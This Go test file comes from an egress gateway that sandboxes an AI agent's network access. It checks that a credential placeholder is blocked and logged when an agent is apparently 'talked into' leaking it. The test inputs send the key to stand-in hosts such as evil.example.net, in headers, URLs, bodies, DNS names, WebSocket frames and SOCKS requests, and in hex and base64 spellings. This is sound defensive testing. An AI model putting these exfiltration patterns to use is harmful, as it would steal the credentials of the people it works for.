package egress

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"

	"bottle/internal/bottle"
	"bottle/internal/policy"
)

const otherHost = "other.example.com"

// saw is an upstream that keeps, for each request, its path, its body, and whether
// the body came to its end.
type saw struct {
	mu   sync.Mutex
	list []seen
	came chan seen
}

type seen struct {
	path, body, auth string
	whole            bool
}

func (s *saw) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/early" {
		_ = http.NewResponseController(w).EnableFullDuplex()
		_, _ = io.WriteString(w, "early") // the answer comes before the body has
		_ = http.NewResponseController(w).Flush()
	}
	body, err := io.ReadAll(r.Body)
	one := seen{r.URL.Path, string(body), r.Header.Get("Authorization"), err == nil}
	s.mu.Lock()
	s.list = append(s.list, one)
	s.mu.Unlock()
	s.came <- one
	_, _ = io.WriteString(w, "done")
}

func (s *saw) count() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return len(s.list)
}

// all is what came so far. An upstream may still be reading a body that the gateway
// has given up, so the list itself is never handed out.
func (s *saw) all() []seen {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.list)
}

// trapped is a gateway with a route that injects, one of the same host that does
// not, and one of another host.
func trapped(t *testing.T) (*world, *saw) {
	s := &saw{came: make(chan seen, 64)}
	addr, ca, _ := upstream(t, s, apiHost, otherHost, "x.wild.example.com")
	own, side := withAuth(route(apiHost, addr, ca), "Bearer", ""), route(apiHost, addr, ca)
	own.Paths, side.Paths = []string{"/v1"}, []string{"/free", "/early"}
	return newWorld(t, nil, own, side, route(otherHost, addr, ca), route("*.wild.example.com", addr, ca)), s
}

func spelt() map[string]string {
	basic := func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }
	out := map[string]string{"plain": heldKey, "within": "a" + heldKey + "b", "hex": hex.EncodeToString([]byte(heldKey)), "HEX": strings.ToUpper(hex.EncodeToString([]byte(heldKey)))}
	for i, user := range []string{"", "u:", "me:"} {
		out[fmt.Sprint("base64 ", i)] = basic(user + heldKey + strings.Repeat("z", i))
	}
	return out
}

// The weakness: an agent that was talked into it sends what it holds to somebody.
// The attack: the placeholder in a field or in the URL, in each spelling, to a host,
// to a path, or to nobody that the manifest lists. This proves that nothing leaves,
// that the reason is told, and that there is one record which says so.
func TestPlaceholderInAFieldOrTheURLIsAnAlarm(t *testing.T) {
	w, s := trapped(t)
	for _, target := range []string{"https://" + otherHost + "/x", "https://" + apiHost + "/free", "http://evil.example.net/", "https://" + apiHost + "/unlisted"} {
		for name, text := range spelt() {
			for _, where := range []string{"Authorization", "X-Api-Key", "Cookie", "X-Any", "query", "path", "escaped"} {
				req, err := http.NewRequest("GET", target, nil)
				if err != nil {
					t.Fatal(err)
				}
				switch where {
				case "query":
					req.URL.RawQuery = "q=" + url.QueryEscape(text)
				case "path":
					req.URL.Path += "/" + text
				case "escaped":
					req.URL.RawQuery = "q=%" + fmt.Sprintf("%02X", text[0]) + text[1:]
				case "Authorization":
					req.Header.Set(where, "Basic "+text)
				default:
					req.Header.Set(where, "a="+text+"; b")
				}
				x, want := judge(w, req), policy.PlaceholderLeak
				if strings.HasSuffix(target, "/unlisted") {
					want = policy.PathNotListed // its own host: an honest agent's mistake
				}
				if x.Allowed() || x.Reason != want {
					t.Errorf("%s to %s in %s: %+v", name, target, where, x)
				}
			}
		}
	}
	if s.count() != 0 {
		t.Errorf("%d requests left", s.count())
	}
}

// judge walks the steps that come before anything is sent.
func judge(w *world, r *http.Request) policy.Verdict {
	r.RequestURI, r.Host = r.URL.RequestURI(), r.URL.Host
	if r.URL.Scheme == "http" {
		r.RequestURI = r.URL.String()
	}
	x := &exchange{p: w.p, r: r, policy: w.p.policy.Load()}
	if r.URL.Scheme == "https" {
		x.t = &tunnel{host: bottle.Host(r.URL.Host), port: 443, tls: true}
	}
	for _, step := range []func() policy.Verdict{x.readTarget, x.readForm, x.connect, x.decide, x.tripwire} {
		if v := step(); !v.Allowed() {
			return x.alarmed(v)
		}
	}
	return passed()
}

// The same over the wire: the agent's answer, the record, and what the upstream saw.
func TestPlaceholderLeakIsToldAndRecorded(t *testing.T) {
	w, s := trapped(t)
	for i, target := range []string{"https://" + otherHost + "/x", "http://evil.example.net/x"} {
		req, _ := http.NewRequest("GET", target, nil)
		req.Header.Set("X-Loot", heldKey)
		res, err := w.client().Do(req)
		if err != nil {
			t.Fatal(err)
		}
		d := denied(t, res, 403, policy.PlaceholderLeak)
		if r := w.one(i + 1); r.Verdict != "deny" || r.Reason != "placeholder_leak" || r.Host != d.Host || r.Credential != "" || d.Ask != nil {
			t.Errorf("record %+v, answer %+v", r, d)
		}
	}
	if s.count() != 0 || len(w.looked()) != 0 {
		t.Errorf("%d requests left; looked up %q", s.count(), w.looked())
	}
}

// On the route that injects the credential nothing is wrong: the header is replaced,
// and what an agent writes of its own environment into a body goes through.
func TestPlaceholderOnItsOwnRouteIsFine(t *testing.T) {
	w, s := trapped(t)
	req, _ := http.NewRequest("POST", "https://"+apiHost+"/v1/x?k="+heldKey, strings.NewReader("my key is "+heldKey))
	req.Header.Set("Authorization", "Bearer "+heldKey)
	res, err := w.client().Do(req)
	if got := text(t, res, err); got != "done" {
		t.Errorf("%s", got)
	}
	if one := <-s.came; one.body != "my key is "+heldKey || one.auth != "Bearer "+realKey || !one.whole {
		t.Errorf("the upstream saw %+v", one)
	}
	if r := w.one(1); r.Verdict != "allow" || r.Credential != tokenRef {
		t.Errorf("record %+v", r)
	}
}

// chunks is a body that comes in parts.
func chunks(parts ...string) io.Reader {
	var rs []io.Reader
	for _, p := range parts {
		rs = append(rs, strings.NewReader(p))
	}
	return io.MultiReader(rs...)
}

// The weakness: what is in a body is known only as it streams, when its beginning is
// on its way. The attack: the placeholder at the end of an upload, cut in two, coded,
// or in a trailer, with a length and without. This proves that the upstream never
// gets a whole request, and that the record says denied.
func TestPlaceholderInABodyBreaksTheRequestOff(t *testing.T) {
	long := strings.Repeat("harmless ", 20000)
	coded := base64.StdEncoding.EncodeToString([]byte("xy" + heldKey + "z"))
	for name, c := range map[string]struct {
		body    io.Reader
		length  int64
		trailer string
	}{
		"with a length":   {chunks(long + heldKey), int64(len(long + heldKey)), ""},
		"at once":         {chunks(heldKey), int64(len(heldKey)), ""},
		"in chunks":       {chunks(long, heldKey[:9], heldKey[9:], long), -1, ""},
		"in base64":       {chunks(long, coded[:20], coded[20:]), -1, ""},
		"in hexadecimal":  {chunks(hex.EncodeToString([]byte(heldKey))), -1, ""},
		"in a trailer":    {chunks(long), -1, heldKey},
		"before the rest": {chunks(heldKey, long), int64(len(heldKey + long)), ""},
	} {
		t.Run(name, func(t *testing.T) {
			w, s := trapped(t)
			req, _ := http.NewRequest("POST", "https://"+otherHost+"/up", struct{ io.Reader }{c.body})
			req.ContentLength = c.length
			if c.trailer != "" {
				req.Trailer = http.Header{"X-Sum": {c.trailer}}
			}
			res, err := w.client().Do(req)
			if err == nil {
				denied(t, res, 403, policy.PlaceholderLeak)
			}
			if r := w.one(1); r.Verdict != "deny" || r.Reason != "placeholder_leak" || r.Rule == "" {
				t.Errorf("record %+v", r)
			}
			w.stop()
			for _, one := range s.all() {
				if one.whole || strings.Contains(one.body, heldKey) || strings.Contains(one.body, coded) {
					t.Errorf("the upstream has %d bytes, whole: %v", len(one.body), one.whole)
				}
			}
		})
	}
}

// An upstream that answers first has its answer allowed; what the agent then sends
// is broken off all the same, and recorded.
func TestPlaceholderAfterAnEarlyAnswerIsRecorded(t *testing.T) {
	w, s := trapped(t)
	c := w.tunnel(apiHost+":443", apiHost)
	_, _ = io.WriteString(c, "POST /early HTTP/1.1\r\nHost: "+apiHost+"\r\nTransfer-Encoding: chunked\r\n\r\n3\r\nabc\r\n")
	head := make([]byte, 15)
	if _, err := io.ReadFull(c, head); err != nil || string(head) != "HTTP/1.1 200 OK" {
		t.Fatalf("%q, %v", head, err)
	}
	fmt.Fprintf(c, "%x\r\n%s\r\n0\r\n\r\n", len(heldKey), heldKey)
	if one := <-s.came; one.whole || one.body != "abc" {
		t.Errorf("the upstream saw %+v", one)
	}
	_, _ = io.Copy(io.Discard, c)
	list := w.all()
	if len(list) == 0 || list[len(list)-1].Reason != "placeholder_leak" || list[len(list)-1].Verdict != "deny" {
		t.Errorf("records %+v", list)
	}
}

// The weakness: a name leaves before any request does. The attack: the placeholder
// as a label, of a listed wildcard, in CONNECT, in the server name, in a question to
// the DNS, in capitals. This proves that no such name is answered, or looked up.
func TestPlaceholderInANameIsAnAlarm(t *testing.T) {
	w, s := trapped(t)
	name := strings.ToUpper(heldKey) + ".wild.example.com"
	if a := w.p.resolveInside(name); a.Addr.IsValid() {
		t.Errorf("the DNS says %v", a)
	}
	if r := w.one(1); r.Kind != KindDNS || r.Reason != "placeholder_leak" {
		t.Errorf("record %+v", r)
	}
	cut := heldKey[:10] + "." + heldKey[10:] + ".wild.example.com"
	res := answered(t, w.raw(w.addr, "CONNECT "+cut+":443 HTTP/1.1\r\nHost: "+cut+"\r\n\r\n"))
	denied(t, res, 403, policy.PlaceholderLeak)
	if r := w.one(2); r.Kind != KindConnect || r.Reason != "placeholder_leak" {
		t.Errorf("record %+v", r)
	}
	w.heading("192.0.2.7:443")
	res = ask200(t, w.shake(w.raw(w.direct, ""), cut), "GET / HTTP/1.1\r\nHost: "+cut+"\r\n\r\n")
	denied(t, res, 403, policy.PlaceholderLeak)
	if r := w.one(3); r.Kind != KindTLS || r.Reason != "placeholder_leak" {
		t.Errorf("record %+v", r)
	}
	res = answered(t, w.raw(w.addr, "GET http://"+cut+"/ HTTP/1.1\r\nHost: "+cut+"\r\n\r\n"))
	denied(t, res, 403, policy.PlaceholderLeak)
	if w.one(4); s.count() != 0 || len(w.looked()) != 0 {
		t.Errorf("%d requests left; looked up %q", s.count(), w.looked())
	}
}

// The weakness: a WebSocket is one request that goes on for hours. The attack: the
// placeholder in its messages, cut over frames, on a route that injects nothing; and
// in the name of a SOCKS request. This proves that the connection is cut before the
// message is whole, and that both are recorded as what they are.
func TestPlaceholderInAStreamCutsIt(t *testing.T) {
	got := make(chan string, 1)
	addr, ca := socketServer(t, func(c io.ReadWriter, _ *http.Request) {
		b, _ := io.ReadAll(c)
		got <- string(b)
	})
	w := newWorld(t, nil, route(apiHost, addr, ca))
	c, br := w.socket(wsAsk)
	first, last := fromClient(0x01, "see "+heldKey[:9]), fromClient(0x80, heldKey[9:]+" and more")
	_, _ = io.WriteString(c, first+last)
	_, _ = io.Copy(io.Discard, br)
	if s := <-got; len(s) >= len(first)+len(heldKey)-9 && !strings.HasPrefix(s[len(first):], "\x88") { // a close frame is fine
		t.Errorf("the upstream got %d bytes after the first frame", len(s)-len(first))
	}
	w.stop()
	leaks := 0
	for _, r := range w.all() {
		if r.Verdict == "deny" && r.Reason == "placeholder_leak" && r.Host == apiHost {
			leaks++
		}
	}
	if leaks == 0 {
		t.Errorf("records %+v", w.all())
	}

	w, _ = trapped(t)
	s := w.raw(w.addr, "")
	say(t, s, "\x05\x01\x00", "\x05\x00")
	say(t, s, socksTo(heldKey+".wild.example.com", 443), "\x05\x02")
	if r := w.one(1); r.Reason != "placeholder_leak" {
		t.Errorf("record %+v", r)
	}
}
